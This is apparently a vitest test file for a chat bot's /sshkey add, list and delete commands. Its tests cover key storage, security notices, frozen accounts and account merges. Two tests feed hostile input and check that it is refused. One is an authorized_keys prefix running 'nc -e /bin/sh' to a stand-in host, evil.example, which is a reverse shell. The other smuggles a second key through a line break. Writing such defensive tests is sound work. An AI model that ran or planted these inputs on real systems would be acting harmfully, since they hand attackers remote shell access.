import { pino } from 'pino'
import { expect, test } from 'vitest'
import { commandRegistry } from '../../commands/registry.ts'
import { createMetrics } from '../../src/app/metrics.ts'
import type { Services } from '../../src/app/Services.ts'
import { CommandPipeline } from '../../src/command/CommandPipeline.ts'
import { RateLimiter } from '../../src/command/RateLimiter.ts'
import { openDatabase } from '../../src/db/openDatabase.ts'
import { ChatIdentities } from '../../src/identity/ChatIdentities.ts'
import type { ChatUser } from '../../src/identity/ChatUser.ts'
import { mergeAccounts } from '../../src/identity/mergeAccounts.ts'
import { SshKeys } from '../../src/identity/SshKeys.ts'
import { Ledger } from '../../src/ledger/Ledger.ts'
import { MORE_ED25519_KEYS, SSH_KEYS } from './sshKeyFixtures.ts'

const T0 = Date.UTC(2026, 10, 30, 9, 0)
const chat = { id: 'dm', kind: 'private' as const }
const alice = { platform: 'telegram' as const, id: '100', name: '@alice' }
const aliceOnDiscord = { platform: 'discord' as const, id: '900', name: 'alice' }
const mallory = { platform: 'telegram' as const, id: '666', name: '@mallory' }
const ED = SSH_KEYS.ed25519
const RSA = SSH_KEYS.rsa2048

function setUp() {
  const { db, sqlite } = openDatabase(':memory:')
  const clock = { now: T0 }
  const sshKeys = new SshKeys({ db, clock: () => clock.now })
  const pipeline = new CommandPipeline({
    db,
    logger: pino({ level: 'silent' }),
    metrics: createMetrics({ defaults: false }),
    clock: () => clock.now,
    commands: commandRegistry,
    services: { sshKeys } as unknown as Services,
    rateLimiter: new RateLimiter({ burst: 1e6, perSecond: 1e6 }),
    adminIds: new Set(),
  })
  const identities = new ChatIdentities(db)
  const accountOf = (user: ChatUser) => identities.ensure(user, clock.now).accountId
  const say = async (user: ChatUser, text: string) => (await pipeline.runText(user, chat, text))!
  const keysOf = (accountId: number) => sqlite.prepare('select fingerprint, public_key as publicKey, comment from ssh_keys where account_id = ? order by id').all(accountId)
  const outbox = (accountId: number) =>
    (sqlite.prepare("select topic, reply from notifications where account_id = ? order by id").all(accountId) as { topic: string; reply: string }[]).map((n) => ({
      topic: n.topic,
      text: (JSON.parse(n.reply) as { text: string }).text,
    }))
  const events = (accountId: number) => sqlite.prepare('select kind, detail from security_events where account_id = ? order by id').all(accountId)
  return { db, sqlite, clock, sshKeys, say, accountOf, keysOf, outbox, events }
}

test('/sshkey add keeps the key, the comment and the fingerprint; /sshkey list shows them numbered', async () => {
  const t = setUp()
  const account = t.accountOf(alice)
  expect((await t.say(alice, `/sshkey add ${ED.line}`)).text).toBe(`Added SSH key 1: ${ED.fingerprint} (alice@laptop). Rentals you confirm from now on let it in; the ones you have now keep the keys they were confirmed with. /sshkey list shows your keys.`)
  t.clock.now += 60_000
  expect((await t.say(alice, `/sshkey add ${RSA.line}`)).text).toBe(`Added SSH key 2: ${RSA.fingerprint} (rsa2048). Rentals you confirm from now on let it in; the ones you have now keep the keys they were confirmed with. /sshkey list shows your keys.`)
  expect(t.keysOf(account)).toEqual([
    { fingerprint: ED.fingerprint, publicKey: ED.line.replace(' alice@laptop', ''), comment: 'alice@laptop' },
    { fingerprint: RSA.fingerprint, publicKey: RSA.line.replace(' rsa2048', ''), comment: 'rsa2048' },
  ])
  expect(await t.say(alice, '/sshkey list')).toMatchObject({
    title: 'Your SSH keys',
    table: {
      columns: ['#', 'fingerprint', 'type', 'comment', 'added'],
      rows: [
        ['1', ED.fingerprint, 'ssh-ed25519', 'alice@laptop', '2026-11-30 09:00 UTC'],
        ['2', RSA.fingerprint, 'ssh-rsa', 'rsa2048', '2026-11-30 09:01 UTC'],
      ],
    },
    text: '2 of at most 10. Remove one with /sshkey delete <number>.',
  })
  expect(t.sshKeys.authorizedKeys(account)).toEqual([ED.line, RSA.line])
})

test('the same key twice is kept once (by fingerprint, whatever its comment)', async () => {
  const t = setUp()
  await t.say(alice, `/sshkey add ${ED.line}`)
  expect((await t.say(alice, `/sshkey add ${ED.line.replace('alice@laptop', 'other name')}`)).text).toBe(`That key is already on your account as key 1: ${ED.fingerprint} (alice@laptop).`)
  expect(t.keysOf(t.accountOf(alice))).toHaveLength(1)
  expect(t.outbox(t.accountOf(alice))).toHaveLength(1)
})

test('every add and delete is a security event told to the account, naming the key', async () => {
  const t = setUp()
  const account = t.accountOf(alice)
  await t.say(alice, `/sshkey add ${ED.line}`)
  expect((await t.say(alice, '/sshkey delete 1')).text).toBe(`Removed SSH key ${ED.fingerprint} (alice@laptop). No rental lets it in from its next start or restart; a workload running now keeps it until then.`)
  expect(t.outbox(account)).toEqual([
    {
      topic: 'security',
      text: `SSH key ${ED.fingerprint} (alice@laptop) was added: it can log in to rentals you confirm from now on, not to the ones you have now. If this was not you, press Freeze my account now (it stops adding keys) and remove it with /sshkey delete ${ED.fingerprint}.`,
    },
    { topic: 'security', text: `SSH key ${ED.fingerprint} (alice@laptop) was removed: no rental lets it in from its next start or restart. If this was not you, press Freeze my account now.` },
  ])
  // Each with a Freeze button that is the account's.
  const replies = t.sqlite.prepare('select reply from notifications where account_id = ? order by id').all(account) as { reply: string }[]
  expect(replies.map((n) => (JSON.parse(n.reply) as { buttons?: { label: string }[] }).buttons?.map((b) => b.label))).toEqual([['Freeze my account'], ['Freeze my account']])
  expect(t.events(account)).toEqual([
    { kind: 'ssh_key_added', detail: `SSH key ${ED.fingerprint} (alice@laptop) was added: it can log in to rentals you confirm from now on, not to the ones you have now.` },
    { kind: 'ssh_key_deleted', detail: `SSH key ${ED.fingerprint} (alice@laptop) was removed: no rental lets it in from its next start or restart.` },
  ])
  expect(t.keysOf(account)).toEqual([])
})

test('attack: another account can neither see nor delete my keys, by number or by fingerprint', async () => {
  const t = setUp()
  await t.say(alice, `/sshkey add ${ED.line}`)
  expect((await t.say(mallory, '/sshkey list')).text).toBe('You have no SSH keys. Add one with /sshkey add ssh-ed25519 AAAA… you@laptop; rentals you confirm after that let it in.')
  expect(await t.say(mallory, '/sshkey delete 1')).toEqual({
    text: 'You have no SSH key "1"; give its number or its SHA256:… fingerprint from /sshkey list.',
    error: true,
    private: true,
  })
  expect((await t.say(mallory, `/sshkey delete ${ED.fingerprint}`)).text).toBe(`You have no SSH key "${ED.fingerprint.slice(0, 39)}…"; give its number or its SHA256:… fingerprint from /sshkey list.`)
  expect(t.keysOf(t.accountOf(alice))).toHaveLength(1)
  expect(t.outbox(t.accountOf(mallory))).toEqual([])
})

test('delete takes the fingerprint with or without its SHA256: prefix', async () => {
  const t = setUp()
  await t.say(alice, `/sshkey add ${ED.line}`)
  await t.say(alice, `/sshkey add ${RSA.line}`)
  await t.say(alice, `/sshkey delete ${RSA.fingerprint.slice('SHA256:'.length)}`)
  await t.say(alice, `/sshkey delete ${ED.fingerprint}`)
  expect(t.keysOf(t.accountOf(alice))).toEqual([])
})

test('attack: a key with an options prefix is refused and nothing is stored', async () => {
  const t = setUp()
  const reply = await t.say(alice, `/sshkey add command="nc -e /bin/sh evil.example 4444" ${ED.line}`)
  expect(reply.error).toBe(true)
  expect(reply.text).toMatch(/^"command=nc" is not a key type I accept/)
  expect(t.keysOf(t.accountOf(alice))).toEqual([])
  expect(t.outbox(t.accountOf(alice))).toEqual([])
})

test('attack: a key with a line break is refused before it reaches the store', () => {
  const t = setUp()
  const account = t.accountOf(alice)
  expect(() => t.sshKeys.add(account, `${ED.line}\nssh-rsa AAAA`)).toThrow('An SSH key is one line without tabs or line breaks')
  expect(t.keysOf(account)).toEqual([])
})

test('at most 10 keys per account', async () => {
  const t = setUp()
  for (const line of MORE_ED25519_KEYS.slice(0, 10)) expect((await t.say(alice, `/sshkey add ${line}`)).text).toMatch(/^Added SSH key \d+:/)
  expect(await t.say(alice, `/sshkey add ${MORE_ED25519_KEYS[10]}`)).toEqual({
    text: 'You have 10 SSH keys, the most allowed; remove one with /sshkey delete <number> first (see /sshkey list).',
    error: true,
    private: true,
  })
  expect(t.keysOf(t.accountOf(alice))).toHaveLength(10)
})

test('attack: a frozen account cannot add a key (a thief would get into its rentals) but can still remove one', async () => {
  const t = setUp()
  const account = t.accountOf(alice)
  await t.say(alice, `/sshkey add ${ED.line}`)
  t.sqlite.prepare('update accounts set frozen_at = ? where id = ?').run(T0, account)
  expect((await t.say(alice, `/sshkey add ${RSA.line}`)).text).toBe(
    'Your account is frozen, so adding SSH keys is stopped; /unfreeze with a wallet your account held for the security hold before the freeze lifts it.',
  )
  expect((await t.say(alice, '/sshkey delete 1')).text).toMatch(/^Removed SSH key/)
  expect(t.keysOf(account)).toEqual([])
})

test('/sshkey add and delete without a key say what to type', async () => {
  const t = setUp()
  expect((await t.say(alice, '/sshkey add')).text).toBe('Paste your public key after add: /sshkey add ssh-ed25519 AAAA… you@laptop (the line in ~/.ssh/id_ed25519.pub).')
  expect((await t.say(alice, '/sshkey delete')).text).toBe('Say which key: /sshkey delete <number> or /sshkey delete SHA256:… (see /sshkey list).')
})

test('keys follow an account merge; a key both accounts hold is kept once', async () => {
  const t = setUp()
  const into = t.accountOf(alice)
  const from = t.accountOf(aliceOnDiscord)
  await t.say(alice, `/sshkey add ${ED.line}`)
  await t.say(aliceOnDiscord, `/sshkey add ${ED.line}`)
  await t.say(aliceOnDiscord, `/sshkey add ${RSA.line}`)
  t.db.transaction(() => mergeAccounts(t.db, new Ledger(t.db), { from, into, now: T0 }))
  expect(t.keysOf(from)).toEqual([])
  expect(t.keysOf(into).map((k) => (k as { fingerprint: string }).fingerprint)).toEqual([ED.fingerprint, RSA.fingerprint])
  expect(t.sshKeys.authorizedKeys(into)).toEqual([ED.line, RSA.line])
})
